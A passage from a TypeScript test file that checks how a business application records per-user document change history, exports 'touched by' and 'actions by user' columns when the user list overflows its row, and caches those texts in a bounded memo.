  it('moves neither version nor updatedAt, and exports every user of a document whose users overflow its row', async () => {
    const x = await createDossier(t, { profiles: [Profile.OWNER] });
    const owner = x.client(Profile.OWNER);
    const customer = await createCustomer(owner, 'Client aux cent mains');
    const doc = await createDoc(owner, 'QUOTE', { partyId: customer.id, lines: [line()] });
    const ctx = await owner.context();
    const [before] = await storedFacts(x.dossier.id);
    expect(before.actions).toEqual([[ctx.userId, 1]]);
    // 55 more users record a change each (in that order), then the owner another.
    const users = Array.from({ length: 55 }, (_, i) => ({ id: newId(), name: `Utilisateur ${String(i + 1).padStart(2, '0')}` }));
    await ctx.platform(User).insert(users.map((u) => ({ ...u, email: `facts-${u.id}@example.test`, passwordHash: null, phone: null, platformRole: null })));
    await ctx.transaction(async (tx) => {
      for (const u of [...users, { id: ctx.userId, name: ctx.user.name }]) {
        const as = tx.withPrincipal({ ...tx.user, userId: u.id, name: u.name });
        await recordHistory(as, { entityType: HistoryEntityType.DOCUMENT, entityId: doc.id, documentId: doc.id, type: HistoryEntryType.UPDATED, data: { changes: [] } });
      }
    });
    const [after] = await storedFacts(x.dossier.id);
    expect(after).toMatchObject({ documentId: doc.id, modificationCount: before.modificationCount + 56, issuedById: null, actionUsers: USER_ACTIONS_OVERFLOW, version: before.version, updatedAt: before.updatedAt });
    const ownerName = x.as.OWNER!.user.name;
    const columns = validateColumns(ctx, ['touchedBy', 'actionsByUser', 'modificationCount']);
    for (const options of [{}, { batchSize: 1, limit: 10 }]) {
      const rows: ExportDocumentRow[] = [];
      for await (const batch of documentBatches(ctx, validateFilter({}), columns, options)) rows.push(...batch);
      expect(rows).toHaveLength(1);
      expect(rows[0]).toMatchObject({
        modificationCount: after.modificationCount,
        touchedBy: [ownerName, ...users.map((u) => u.name)].join(', '),
        actionsByUser: [`${ownerName} : 2`, ...users.map((u) => `${u.name} : 1`)].join(', '),
      });
    }
  });
});

describe('HistoryTexts (the history columns\' texts, once per stored value of an export)', () => {
  const names = new Map([
    ['u1', 'Alice'],
    ['u2', 'Bruno'],
  ]);
  const name = (id: string) => names.get(id) ?? null;

  it('keys the texts by the whole stored value: equal facts share them, different facts never do', () => {
    const memo = new HistoryTexts();
    const a = encodeUserActions([['u1', 1], ['u2', 2]]);
    const b = encodeUserActions([['u1', 2], ['u2', 1]]);
    const c = encodeUserActions([['u2', 2], ['u1', 1]]);
    expect(memo.add(a, name)).toEqual({ touchedBy: 'Alice, Bruno', actionsByUser: 'Alice : 1, Bruno : 2' });
    expect(memo.add(b, name)).toEqual({ touchedBy: 'Alice, Bruno', actionsByUser: 'Alice : 2, Bruno : 1' });
    expect(memo.add(c, name)).toEqual({ touchedBy: 'Bruno, Alice', actionsByUser: 'Bruno : 2, Alice : 1' });
    expect(memo.get(encodeUserActions([['u1', 1], ['u2', 2]]))).toBe(memo.get(a));
    expect(memo.get(encodeUserActions([['u1', 1]]))).toBeUndefined();
    // An unknown user, and no actions at all.
    expect(memo.add(encodeUserActions([['u3', 4]]), name)).toEqual({ touchedBy: '?', actionsByUser: '? : 4' });
    expect(memo.add('', name)).toEqual({ touchedBy: null, actionsByUser: null });
  });

  it('stays bounded: starts again when full, between batches only', () => {
    const memo = new HistoryTexts(2);
    memo.startBatch();
    memo.add(encodeUserActions([['u1', 1]]), name);
    memo.add(encodeUserActions([['u1', 2]]), name);
    // Within a batch, a full memo keeps what the batch already found in it.
    expect(memo.add(encodeUserActions([['u1', 3]]), name)).toEqual({ touchedBy: 'Alice', actionsByUser: 'Alice : 3' });
    expect(memo.get(encodeUserActions([['u1', 1]]))).toEqual({ touchedBy: 'Alice', actionsByUser: 'Alice : 1' });
    memo.startBatch();
    expect(memo.size()).toBe(0);
    expect(memo.get(encodeUserActions([['u1', 1]]))).toBeUndefined();
  });
});
